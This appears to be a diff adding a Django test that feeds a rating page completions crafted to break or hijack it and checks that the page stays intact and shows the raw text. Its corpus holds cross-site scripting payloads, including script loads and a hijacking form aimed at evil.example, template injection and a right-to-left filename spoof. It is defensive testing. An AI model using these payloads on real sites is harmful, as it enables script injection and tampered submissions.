@@ -1,0 +1,88 @@
+"""The rating page with completions that mean it harm: it stays whole, and every word of them can be read."""
+
+import re
+from html import unescape
+from html.parser import HTMLParser
+
+import pytest
+from django.test import Client
+
+from arena.models import Membership
+from tests.factories import make_completion, make_member, make_prompt, make_study
+
+CORPUS = {
+    "scripts": "<script>alert(1)</script></div></section><script src=//evil.example></script>",
+    "handlers": '<img src=x onerror=alert(1)><p onclick="alert(1)" style="position:fixed">x</p>',
+    "addresses": "[a](javascript:alert(1)) [b](data:text/html,x) ![c](https://evil.example/x.png)",
+    "svg": "<svg onload=alert(1)><math><maction actiontype='statusline#javascript:alert(1)'>",
+    "formulas": r"$\href{javascript:alert(1)}{x}$ \(\text{</math><script>}\) $$\style{a}{b}$$",
+    "template": "{{ request.user }} {% include 'base.html' %} {# x #}",
+    "a form": "</form><form action='https://evil.example'><input name=rating value=8><button>8</button>",
+    "the page's own": '<div data-form="raw" hidden></div><button data-copy>Copy</button><p id="task"></p>',
+    "a huge table": "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + ("|b" * 300 + "|\n") * 20,
+    "right to left": "\u202egnp.exe \u2067 \u05d0\u05d1 $x$\n\n- \u0645\u0631\u062d\u0628\u0627",
+    "zalgo": "z" + "\u0300\u0301\u0302\u0303" * 500 + "algo",
+    "a long line": "x" * 100_000,
+    "a million": "word " * 200_000,
+    "an open fence": "```python\nprint('</pre></div>')\n" + "y" * 5_000,
+    "deep lists": "\n".join("  " * level + f"- {level}" for level in range(500)),
+    "control": "\x01 \x08 \x7f \ufdd00\ufdd0 \ufdd1 \ufffe",
+}
+
+
+class Outline(HTMLParser):
+    """The tags of a page: which are open at the end, and what may not be inside an answer."""
+
+    VOID = frozenset(("br", "hr", "input", "link", "meta", "img"))
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.open: list[str] = []
+        self.inside = 0
+        self.seen: set[str] = set()
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        classes = str(dict(attrs).get("class") or "").split()
+        if self.inside or "response-text" in classes:
+            self.inside += tag not in self.VOID
+            self.seen.add(tag)
+            for name, value in attrs:
+                assert name not in ("style", "id", "src", "action"), tag
+                assert not name.startswith("on"), tag
+                assert name != "href" or str(value).startswith(("https://", "http://", "mailto:"))
+        if tag not in self.VOID:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.open.pop() == tag
+        self.inside -= self.inside > 0
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("name", CORPUS)
+def test_the_page_stays_whole_and_shows_every_word(client: Client, name: str) -> None:
+    text = CORPUS[name]
+    study = make_study()
+    prompt = make_prompt(study=study)
+    for written in (text, "Harmless."):
+        make_completion(prompt=prompt, turns=[written])
+    rater = make_member(study)
+    Membership.objects.update(guidelines_read_at="2026-01-01T00:00:00Z")
+    client.force_login(rater.user)
+
+    page = client.get(f"/rate/{study.slug}/").content.decode()
+    outline = Outline(page)
+    assert not outline.open
+    assert outline.seen.isdisjoint(("script", "style", "img", "svg", "iframe", "form", "input", "maction"))
+
+    shown = unescape(re.sub(r"<[^>]*>", "", page.partition("response-text")[2]))
+    words = re.findall(r"\w+", text.replace("\ufdd0", " "))
+    assert words[-1] in shown
+    # Beside the rendered form stands the text itself, to the letter; of one shown as it is there is no other.
+    raw = re.findall(r'<pre class="raw" data-form="raw"[^>]*>(.*?)</pre>', page, re.DOTALL)
+    plain = re.findall(r'<pre class="raw" tabindex="0">(.*?)</pre>', page, re.DOTALL)
+    assert text in [unescape(re.sub(r"<[^>]*>", "", one)) for one in raw + plain]
+    # A text is sent twice at most: as it was written, and rendered.
+    assert len(page) < 60_000 + 12 * len(text)
